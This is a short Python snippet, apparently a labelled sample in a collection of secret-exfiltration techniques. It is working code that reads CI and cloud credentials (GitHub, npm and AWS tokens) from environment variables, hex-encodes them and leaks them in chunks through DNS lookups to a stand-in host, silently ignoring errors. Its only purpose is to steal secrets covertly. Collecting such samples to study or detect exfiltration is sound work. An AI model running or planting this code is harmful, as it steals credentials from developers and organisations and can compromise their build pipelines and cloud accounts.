# family: secrets-exfil
# a CI token chunked into DNS queries
import os
import socket

tok = os.environ.get("GITHUB_TOKEN") or os.environ.get("NPM_TOKEN") or os.environ.get("AWS_SECRET_ACCESS_KEY", "")
enc = tok.encode().hex()
for i in range(0, len(enc), 50):
    try:
        socket.getaddrinfo(f"{i}.{enc[i:i + 50]}.x.example.invalid", 53)
    except socket.gaierror:
        pass
